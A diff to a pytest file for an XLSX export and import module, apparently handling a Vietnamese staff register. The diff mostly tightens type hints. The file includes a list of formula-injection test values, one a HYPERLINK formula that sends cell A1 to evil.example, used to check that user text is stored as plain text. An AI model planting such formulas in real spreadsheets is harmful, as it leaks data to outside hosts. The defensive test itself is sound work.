@@ -8,6 +8,7 @@ import io
 import re
 import struct
 import zipfile
+from collections.abc import Callable, Sequence
 from xml.etree import ElementTree
 
 import pytest
@@ -20,7 +21,7 @@ HEADER = ["STT", "Họ và tên", "Ngày sinh", "Đơn vị công tác"]
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+1+2", "-2+3", "@SUM(A1:A2)", "=1+1"]
 
 
-def xlsx(rows: list[list[object]]) -> bytes:
+def xlsx(rows: Sequence[Sequence[object]]) -> bytes:
     book = Workbook()
     sheet = book.active
     assert sheet is not None
@@ -31,7 +32,7 @@ def xlsx(rows: list[list[object]]) -> bytes:
     return out.getvalue()
 
 
-def rewrite(data: bytes, member: str, change: object) -> bytes:
+def rewrite(data: bytes, member: str, change: Callable[[str], str]) -> bytes:
     """The same XLSX with one member's text changed by ``change`` (a function of the text)."""
     src = zipfile.ZipFile(io.BytesIO(data))
     out = io.BytesIO()
@@ -39,7 +40,7 @@ def rewrite(data: bytes, member: str, change: object) -> bytes:
         for info in src.infolist():
             content = src.read(info)
             if info.filename == member:
-                content = change(content.decode()).encode()  # type: ignore[operator]
+                content = change(content.decode()).encode()
             dst.writestr(info.filename, content)
     return out.getvalue()
 
@@ -58,7 +59,8 @@ MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 
 
 def test_user_text_goes_into_the_register_as_text_never_as_a_formula() -> None:
-    data = write_table("Sổ", ["Người ký", "Nơi nhận"], [[h, f"{h}; Ban Giám hiệu"] for h in HOSTILE] + [[7, "x"]])
+    rows: list[list[object]] = [[h, f"{h}; Ban Giám hiệu"] for h in HOSTILE]
+    data = write_table("Sổ", ["Người ký", "Nơi nhận"], [*rows, [7, "x"]])
     cells = sheet_cells(data)
     assert not [c.get("r") for c in cells if c.find(f"{MAIN}f") is not None]  # no formula anywhere
     texts = ["".join(t.text or "" for t in c.iter(f"{MAIN}t")) for c in cells if c.get("t") == "inlineStr"]
@@ -79,7 +81,7 @@ def test_every_row_is_read_whatever_the_dimension_says() -> None:
     assert rows[-1][1] == [5, "Nguyễn Văn 5", "01/01/1990", "Xã A"]  # the column past C too
 
 
-def _dimension(ref: str) -> object:
+def _dimension(ref: str) -> Callable[[str], str]:
     return lambda xml: re.sub(r'<dimension ref="[^"]*"/>', f'<dimension ref="{ref}"/>', xml)
 
 
